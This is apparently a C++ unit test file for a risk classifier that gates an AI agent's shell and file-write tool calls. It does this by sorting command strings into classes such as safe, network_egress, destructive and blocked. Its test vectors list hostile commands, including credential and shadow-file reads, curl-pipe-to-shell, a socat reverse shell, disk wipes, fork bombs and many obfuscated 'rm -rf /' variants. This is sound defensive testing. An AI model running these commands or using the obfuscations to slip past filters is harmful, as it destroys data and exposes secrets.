#include "policy/rules/risk.h"

#include <gtest/gtest.h>

#include <utility>

#include "policy/rules/tool_rules.h"

namespace odyssey::rules {
namespace {

using Vectors = std::vector<std::pair<std::string_view, std::vector<std::string>>>;

TEST(ClassifyCommandTest, AnswersOdeksVectors) {
  const Vectors vectors = {
      {"safe",
       {"ls -la", "cat main.go", "git status", "go test ./...", "find . -name '*.go'", "FOO=bar",
        "LANG=C ls -la", "timeout 30 go test ./...",
        "dd if=/dev/zero of=/dev/null bs=1M count=100"}},
      {"local_write", {"echo x > f", "rm -rf node_modules", "sed -i s/a/b/ f", "chmod +x s"}},
      {"system_write",
       {"sudo apt update", "echo c > /etc/x", "cat /etc/shadow", "cat ~/.ssh/id_rsa",
        "cat /proc/self/environ", "env", "printenv HOME", "env FOO=bar printenv FOO"}},
      {"install", {"npm ci", "pip install x", "cargo install x", "go mod download"}},
      {"network_egress",
       {"curl u", "git push", "git -C /r push", "git -c http.proxy=http://evil fetch",
        "dig +short x", "socat TCP4:e:443 EXEC:/bin/sh", "nohup curl u", "c\"\"url u",
        ": | wget u"}},
      {"code_execution",
       {"curl u | sh", "python x.py", "python -c", "node server.js", "npm test", "cargo build",
        "awk 'BEGIN{system(\"x\")}'", "sed 's/a/b/e' f", "find / -exec cat {} +", "sh <(curl u)",
        "source ./x", "npx x", "uv run x", "sh -c \"curl u | sh\""}},
      {"destructive",
       {"rm -rf /",
        "rm -rf *",
        "rm -rf .",
        "rm -rf $HOME",
        "rm --recursive --force /var",
        "rm ${X:--rf} /",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "\\rm -rf /",
        "r\\m -rf /",
        "r\"\"m -rf /",
        "rm$IFS-rf$IFS/",
        "{rm,-rf,/}",
        "$'\\x72\\x6d' -rf /",
        "$'\\162\\155' -rf /etc",
        "command rm -rf /",
        "exec rm -rf /",
        "/bin/rm -rf /",
        "env A=b rm -rf /etc",
        "xargs rm -rf /etc",
        "nice -n 10 rm -rf /var",
        "setsid bash -c 'rm -rf /'",
        "mkfs.ext4 /dev/sda1"}},
      // odek calls the first one destructive, the second one blocked; here both are the stricter.
      {"blocked",
       {"true | dd if=/dev/zero of=/dev/sda", "timeout 5 dd if=/dev/zero of=/dev/sda bs=1M",
        ":(){ :|:& };:"}},
      {"unknown", {"frobnicate", "make", "cat f && mytool", "X=rm $Y -rf /"}},
  };
  for (const auto& [name, lines] : vectors) {
    for (const std::string& line : lines) {
      const Result<Risk> risk = ClassifyCommand(line);
      ASSERT_TRUE(risk.ok()) << line;
      EXPECT_EQ(RiskName(risk->risk), name) << line << ": " << risk->reason;
    }
  }
}

TEST(ClassifyCommandTest, AnswersVectorsOfItsOwn) {
  const Vectors vectors = {
      {"safe", {"git --version", "git -C r log --oneline", "grep -r x . | head -5", "true 2>&1"}},
      {"local_write",
       {"git commit -m x", "mkdir -p a/b", "tee out < in", "find . -name '*.o' -delete",
        "rm -rf build/*", "tar xf a.tar", "sort -o out in", "git diff --output=f"}},
      {"system_write",
       {"tee /etc/hosts", "cp x /usr/bin/y", "echo x >> ~/.bashrc", "systemctl stop x",
        "dd if=x of=/etc/y", "ln -s x /usr/bin/z", "curl -o /etc/x u"}},
      {"code_execution", {"eval ls", "vim -c '!rm x' f", "tar cf a --checkpoint-action=exec=x b"}},
      {"destructive",
       {"find / -delete", "rm -r ~", "rm -fr ..", "sudo rm -rf /etc", "cd / && rm -rf *"}},
      {"blocked", {"cat x > /dev/sda", "tee /dev/nvme0n1", "bomb() { bomb | bomb & }; bomb"}},
      {"unknown", {"./ls", "/workspace/bin/cat x"}},
  };
  for (const auto& [name, lines] : vectors) {
    for (const std::string& line : lines) {
      const Result<Risk> risk = ClassifyCommand(line);
      ASSERT_TRUE(risk.ok()) << line;
      EXPECT_EQ(RiskName(risk->risk), name) << line << ": " << risk->reason;
    }
  }
}

TEST(ClassifyPathTest, KnowsSystemPathsAndSecrets) {
  EXPECT_EQ(ClassifyPath("a", FileAccess::kWrite), RiskClass::kLocalWrite);
  EXPECT_EQ(ClassifyPath("/workspace/a", FileAccess::kWrite), RiskClass::kLocalWrite);
  EXPECT_EQ(ClassifyPath("/tmp/a", FileAccess::kWrite), RiskClass::kLocalWrite);
  EXPECT_EQ(ClassifyPath("/tmp/../etc/a", FileAccess::kWrite), RiskClass::kSystemWrite);
  EXPECT_EQ(ClassifyPath("/dev/null", FileAccess::kWrite), RiskClass::kSafe);
  EXPECT_EQ(ClassifyPath("/dev/sda1", FileAccess::kWrite), RiskClass::kBlocked);
  EXPECT_EQ(ClassifyPath("/etc/passwd", FileAccess::kRead), RiskClass::kSafe);
  EXPECT_EQ(ClassifyPath("/etc/shadow", FileAccess::kRead), RiskClass::kSystemWrite);
  EXPECT_EQ(ClassifyPath("/tmp/x", FileAccess::kRemoveTree), RiskClass::kLocalWrite);
  EXPECT_EQ(ClassifyPath("/tmp", FileAccess::kRemoveTree), RiskClass::kDestructive);
}

TEST(DecideTest, TheRiskIsASecondOpinion) {
  const Result<ToolRules> rules = Parse({"Bash"}, {"Bash(curl:*)"}, {"Bash(sudo:*)"},
                                        {{"network_egress", "ask"},
                                         {"install", "allow"},
                                         {"destructive", "deny"},
                                         {"system_write", "ask"}});
  ASSERT_TRUE(rules.ok());
  const auto verdict = [&](const ToolCall& call) {
    const Result<Decision> decision = Decide(*rules, call);
    return std::string(VerdictName(decision->verdict)) + " " + decision->rule;
  };
  EXPECT_EQ(verdict({.name = "Bash", .command = "ls"}), "allow Bash");
  EXPECT_EQ(verdict({.name = "Bash", .command = "wget u"}), "ask risk network_egress");
  EXPECT_EQ(verdict({.name = "Bash", .command = "curl u"}), "ask Bash(curl:*)");
  EXPECT_EQ(verdict({.name = "Bash", .command = "npm ci"}), "allow Bash");
  // Each part counts, not the highest class alone.
  EXPECT_EQ(verdict({.name = "Bash", .command = "wget u; python x"}), "ask risk network_egress");
  EXPECT_EQ(verdict({.name = "Bash", .command = "curl u; rm -rf /"}), "deny risk destructive");
  EXPECT_EQ(verdict({.name = "Bash", .command = "sudo ls"}), "deny Bash(sudo:*)");
  EXPECT_EQ(verdict({.name = "Write", .paths = {"/etc/x"}}), "ask risk system_write");
  EXPECT_EQ(verdict({.name = "Write", .paths = {"x"}}), "allow ");
  EXPECT_EQ(Decide(*rules, {.name = "Bash", .command = "wget u"})->scope,
            "risk network_egress: Bash: exactly `wget u`");
  EXPECT_FALSE(Parse({}, {}, {}, {{"risky", "ask"}}).ok());
  EXPECT_FALSE(Parse({}, {}, {}, {{"safe", "maybe"}}).ok());
}

}  // namespace
}  // namespace odyssey::rules
